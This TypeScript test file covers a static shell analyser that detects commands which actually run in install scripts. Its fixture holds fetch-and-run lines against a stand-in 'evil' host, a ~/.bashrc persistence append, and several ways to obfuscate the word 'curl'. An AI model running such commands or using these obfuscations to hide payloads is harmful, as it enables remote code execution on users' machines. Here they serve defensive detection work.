import { describe, expect, it } from 'vitest';
import { codeView } from './code-view.js';
import { commandName, parseShell } from './shell.js';
import { evaluateWord, NO_VARS, staticVars } from './static-value.js';

const SCRIPT = [
  '# Maintainer: x <$(echo Zm9v | base64 -d)>', // 1
  'post_install() {', // 2
  '  echo "==> run: systemctl enable --now foo.service"', // 3
  '  note "add source /x to ~/.bashrc"', // 4
  '  cat <<EOF', // 5
  'Run curl -s https://x | sh to finish', // 6
  'EOF', // 7
  '  echo "$(curl -s https://evil/x | sh)"', // 8
  "  echo 'curl x | sh' >> ~/.bashrc", // 9
  "  bash <<'X'", // 10
  'wget -qO- https://evil | sh', // 11
  'X', // 12
  '  case "$1" in', // 13
  '    x86_64|aarch64) make ;;', // 14
  '  esac', // 15
  '}', // 16
  'note() { printf \'%s\\n\' "$@"; }', // 17
  '',
].join('\n');

describe('parseShell', () => {
  it('finds commands with their pipelines, redirections, substitutions and shell-fed here-documents', () => {
    const p = parseShell(SCRIPT);
    const summary = p.commands.map((c) => `${c.line}:${commandName(c)?.value ?? '-'}${c.parent ? '(sub)' : ''}${c.pipeTo ? '|' : ''}`);
    expect(summary).toEqual([
      '3:echo',
      '4:note',
      '5:cat',
      '8:echo',
      '8:curl(sub)|',
      '8:sh(sub)',
      '9:echo',
      '10:bash',
      '11:wget(sub)|',
      '11:sh(sub)',
      '14:make',
      '17:printf',
    ]);
    expect(p.comments.map((c) => c.line)).toEqual([1]);
    expect(p.heredocs.map((h) => [h.line, h.endLine, h.quoted])).toEqual([
      [6, 6, false],
      [11, 11, true],
    ]);
    expect(p.commands.find((c) => c.line === 9)!.redirects.map((r) => [r.op, r.target?.value])).toEqual([['>>', '~/.bashrc']]);
  });

  it('never fails on broken or hostile input', () => {
    for (const text of ['"unterminated', "$'\\x", '$(((((', 'cat <<', 'a | | b ;; ) ( }', '$('.repeat(5000), '`'.repeat(3001)]) {
      expect(() => parseShell(text), text.slice(0, 20)).not.toThrow();
    }
  });
});

describe('codeView', () => {
  it('blanks comments, printed messages and printed here-documents, and keeps what runs or is written', () => {
    const lines = codeView(SCRIPT).code.split('\n');
    expect(lines[0]!.trim()).toBe('');
    expect(lines[2]!.trim()).toBe('echo');
    expect(lines[3]!.trim()).toBe('note'); // a function of the file that only prints
    expect(lines[5]!.trim()).toBe('');
    expect(lines[7]).toContain('curl -s https://evil/x | sh'); // command substitution runs
    expect(lines[8]).toContain("'curl x | sh' >> ~/.bashrc"); // written to a file
    expect(lines[10]).toContain('wget -qO- https://evil | sh'); // fed to bash
  });
});

describe('static evaluation', () => {
  const vars = staticVars(parseShell('a=cu\nlocal b="rl"\nc=$a$b\nd=x\nd=y\n'));
  it.each([
    ["'c''u''r''l'", 'curl'],
    ["$'\\x63\\x75\\x72\\x6c'", 'curl'],
    ['$a$b', 'curl'],
    ['${c}', 'curl'],
    ["$(printf '\\x63\\x75\\x72\\x6c')", 'curl'],
    ["$(printf '%s' cu rl)", 'curl'],
    ['$(echo Y3VybA== | base64 -d)', 'curl'],
    ['$(base64 -d <<< Y3VybA==)', 'curl'],
    ['`echo lruc | rev`', 'curl'],
    ["$(echo phey | tr 'A-Za-z' 'N-ZA-Mn-za-m')", 'curl'],
    ['${SHELL:-sh}', 'sh'],
  ])('%s is %s', (word, value) => {
    expect(evaluateWord(word, vars)).toBe(value);
  });

  it('gives up on anything that needs running code or is ambiguous', () => {
    for (const word of ['$d', '$(uname -m)', '${!a}', '$1', '${a//c/x}', '$(cat /etc/hostname)']) expect(evaluateWord(word, vars), word).toBeNull();
    expect(evaluateWord('$a', NO_VARS)).toBeNull();
  });
});
